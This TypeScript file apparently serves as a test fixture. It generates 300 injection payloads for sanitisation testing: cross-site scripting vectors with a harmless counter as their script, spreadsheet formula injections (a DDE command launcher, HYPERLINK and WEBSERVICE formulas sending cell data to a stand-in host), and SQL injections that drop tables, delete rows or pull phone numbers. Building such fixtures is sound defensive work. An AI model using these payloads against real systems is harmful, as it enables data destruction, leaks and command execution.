/** What somebody types who hopes that a screen, a sheet, a paper or the database will run it. `call` is what would run. */
const call = 'window.ran=(window.ran||0)+1'

/** How a payload gets out of the place where it was put. */
const ways = [
  (inner: string) => inner,
  (inner: string) => `">${inner}`,
  (inner: string) => `'>${inner}`,
  (inner: string) => `</textarea>${inner}`,
  (inner: string) => `</title></style></script>${inner}`,
  (inner: string) => `-->${inner}<!--`,
  (inner: string) => `]]>${inner}`,
  (inner: string) => `张三，去年来办过。${inner}`,
  (inner: string) => `\u202e${inner}\u0000`,
  (inner: string) => `&quot;${inner}`.replaceAll('<', '&lt;').replaceAll('>', '&#x3e;'),
] as const

const scripts = [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script href="data:,${call}"/></svg>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<a href="javascript:${call}">看这里</a>`,
  `<form><button formaction="javascript:${call}">好</button></form>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<template shadowrootmode=open><script>${call}</script></template>`,
  `" autofocus onfocus="${call}`,
  `' onmouseover='${call}`,
  `\`onclick=\`${call}\``,
  `javascript:${call}`,
  '{{constructor.constructor("' + call + '")()}}',
  '${' + call + '}',
  '<%= ' + call + ' %>',
  '#{' + call + '}',
]
const formulas = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠'].flatMap(sign => [
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("https://elsewhere.example/?"&A1,"看这里")`,
  `${sign}1+1`,
  `${sign}WEBSERVICE("https://elsewhere.example")`,
])
const statements = [
  "'; drop table engine.matter; --",
  "' or '1'='1",
  '1); select pg_sleep(60); --',
  '$$; set role huiyin_owner; $$',
  "\\'; delete from org.unit; --",
  "%' union select number, person from org.person_phone --",
]

/** 300 of them: markup in each of its ways, formulas for sheets, statements for a database. */
export const payloads: readonly string[] = [
  ...scripts.flatMap(script => ways.map(way => way(script))),
  ...formulas,
  ...statements.flatMap(statement => ways.map(way => way(statement))),
]
